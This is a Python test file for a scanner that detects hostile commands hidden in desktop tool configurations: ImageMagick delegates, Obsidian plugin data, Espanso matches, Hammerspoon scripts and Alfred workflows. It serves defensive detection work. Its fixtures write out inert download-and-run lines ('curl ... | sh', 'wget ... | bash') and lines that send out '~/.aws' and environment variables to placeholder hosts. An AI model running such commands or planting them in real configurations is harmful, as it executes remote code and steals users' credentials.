"""Desktop tools configured to run commands (:mod:`.desktop`): ImageMagick delegates (``command=``
with XML entities), the Obsidian Shell commands plugin's ``data.json``, Espanso ``shell`` matches,
Hammerspoon's ``hs.execute``. Hosts are TEST-NET or ``.invalid``; payloads are inert; nothing runs."""

from __future__ import annotations

import json
from pathlib import Path

from behaviour_files import scan_errors


def test_a_delegate_whose_command_fetches_and_runs_code(tmp_path: Path) -> None:
    delegates = (
        '<?xml version="1.0"?>\n<delegatemap>\n'
        '  <delegate decode="pdf" encode="eps" mode="bi" command="&quot;gs&quot; -q &quot;%i&quot;"/>\n'
        '  <delegate decode="heic"\n'
        "   command='sh -c &quot;wget -qO- http://198.51.100.61/h | bash&quot; &amp;&amp; cp %i %o'/>\n"
        "</delegatemap>\n"
    )
    errors = scan_errors(tmp_path, {"magick/delegates.xml": delegates})
    assert ("DOWNLOAD_AND_RUN", "magick/delegates.xml", 5) in errors


def test_stock_delegates_are_quiet(tmp_path: Path) -> None:
    delegates = (
        '<?xml version="1.0"?>\n<delegatemap>\n'
        '  <delegate decode="svg" command="&quot;rsvg-convert&quot; -o &quot;%o&quot; &quot;%i&quot;"/>\n'
        '  <delegate decode="https" command="&quot;curl&quot; -s -k -L -o &quot;%o&quot; &quot;https:%M&quot;"/>\n'
        "</delegatemap>\n"
    )
    assert scan_errors(tmp_path, {"config/delegates.xml": delegates}) == set()


def test_an_obsidian_plugin_command_sending_a_secret_store(tmp_path: Path) -> None:
    data = {
        "commands": [{"name": "backup", "command": "tar cz ~/.aws | curl --data-binary @- https://n.example.invalid/u"}]
    }
    rel = "notes/.obsidian/plugins/vault-backup/data.json"
    errors = scan_errors(tmp_path, {rel: json.dumps(data, indent=2)})
    assert any(rule == "CREDENTIAL_EXFILTRATION" and path == rel for rule, path, _ in errors)


def test_an_obsidian_plugin_reading_its_own_settings_is_quiet(tmp_path: Path) -> None:
    data = {"shell_commands": [{"id": "a", "platform_specific_commands": {"default": "git -C . pull --rebase"}}]}
    rel = "vault/.obsidian/plugins/obsidian-shellcommands/data.json"
    assert scan_errors(tmp_path, {rel: json.dumps(data)}) == set()


def test_an_espanso_shell_match_that_runs_a_download(tmp_path: Path) -> None:
    matches = (
        "matches:\n"
        '  - trigger: ":date"\n'
        '    replace: "{{out}}"\n'
        "    vars:\n"
        "      - name: out\n"
        "        type: shell\n"
        "        params:\n"
        "          cmd: |\n"
        "            curl -s https://snip.example.invalid/x | sh\n"
        "            date +%F\n"
    )
    errors = scan_errors(tmp_path, {"espanso/match/base.yml": matches})
    assert any(rule == "DOWNLOAD_AND_RUN" for rule, _, _ in errors)


def test_an_espanso_date_shell_match_is_quiet(tmp_path: Path) -> None:
    matches = (
        "matches:\n  - trigger: ':now'\n    vars:\n      - name: o\n        type: shell\n"
        '        params:\n          cmd: "date +%H:%M"\n'
    )
    assert scan_errors(tmp_path, {"espanso/match/base.yml": matches}) == set()


def test_hammerspoon_hs_execute_of_a_download(tmp_path: Path) -> None:
    source = 'hs.hotkey.bind({"cmd"}, "R", function()\n  hs.execute("curl -s http://203.0.113.40/r | sh", true)\nend)\n'
    errors = scan_errors(tmp_path, {"hammerspoon/init.lua": source})
    assert ("DOWNLOAD_AND_RUN", "hammerspoon/init.lua", 2) in errors


def test_an_alfred_workflow_script_object_sending_the_environment(tmp_path: Path) -> None:
    plist = (
        '<?xml version="1.0" encoding="UTF-8"?>\n<plist version="1.0">\n<dict>\n'
        "  <key>bundleid</key><string>com.example.quicklook</string>\n  <key>objects</key>\n  <array><dict>\n"
        "    <key>config</key><dict>\n      <key>script</key>\n"
        "      <string>printenv | curl -s --data-binary @- https://wf.example.invalid/e &amp;&amp; echo ok</string>\n"
        "    </dict>\n  </dict></array>\n</dict>\n</plist>\n"
    )
    errors = scan_errors(tmp_path, {"alfred/QuickLook.alfredworkflow/info.plist": plist})
    assert any(rule == "CREDENTIAL_EXFILTRATION" for rule, _, _ in errors)


def test_an_alfred_workflow_opening_a_search_is_quiet(tmp_path: Path) -> None:
    plist = (
        '<plist version="1.0"><dict><key>objects</key><array><dict><key>config</key><dict>\n'
        '<key>script</key>\n<string>open "https://duckduckgo.com/?q={query}"</string>\n'
        "</dict></dict></array></dict></plist>\n"
    )
    assert scan_errors(tmp_path, {"workflows/search/info.plist": plist}) == set()
